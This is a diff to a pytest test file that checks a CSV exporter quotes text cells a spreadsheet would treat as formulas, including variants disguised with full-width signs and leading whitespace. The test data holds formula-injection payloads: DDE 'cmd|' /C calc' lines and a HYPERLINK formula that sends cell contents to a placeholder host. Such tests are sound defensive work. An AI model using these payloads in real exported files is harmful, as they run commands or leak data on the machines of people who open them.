@@ -42,7 +42,34 @@ def test_a_csv_text_cell_that_would_be_a_formula_is_quoted(name: str) -> None:
     assert rows[1] == ["'" + name, "3", "-12.50"]
 
 
-@pytest.mark.parametrize("name", ["杭州西湖科技", "CRM 标准版", "a=b", "12-3", "-12.50", "+86"])
+# Spreadsheets read these as formulas too: full-width signs (NFKC gives = + - @), white
+# space before the sign, and both.
+DISGUISED_ATTACKS = [
+    '＝HYPERLINK("http://x/?d="&C2,"详情")',  # full-width equals sign
+    "＋1+cmd|' /C calc'!A0",  # full-width plus sign
+    "－2+3+cmd|' /C calc'!A0",  # full-width hyphen-minus
+    "＠SUM(1+1)*cmd|' /C calc'!A0",  # full-width commercial at
+    "\ufe66HYPERLINK(1)",  # small equals sign
+    " =1+1",
+    "  =1+1",
+    "\u3000=1+1",  # ideographic space
+    "\u00a0@SUM(1+1)",  # no-break space
+    "\n=1+1",
+    " ＝1+1",
+    "\u2003＋1+cmd|' /C calc'!A0",  # em space, full-width plus
+]
+
+
+@pytest.mark.parametrize("name", DISGUISED_ATTACKS)
+def test_a_csv_text_cell_that_would_be_a_formula_once_normalised_is_quoted(name: str) -> None:
+    rows = _csv_rows(_table([name]))
+    assert rows[1] == ["'" + name, "3", "-12.50"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["杭州西湖科技", "CRM 标准版", "a=b", "12-3", "-12.50", "+86", " 12.50", "１２－３", " ＋1"],
+)
 def test_csv_text_a_spreadsheet_would_not_evaluate_is_left_as_typed(name: str) -> None:
     assert _csv_rows(_table([name]))[1][0] == name
 
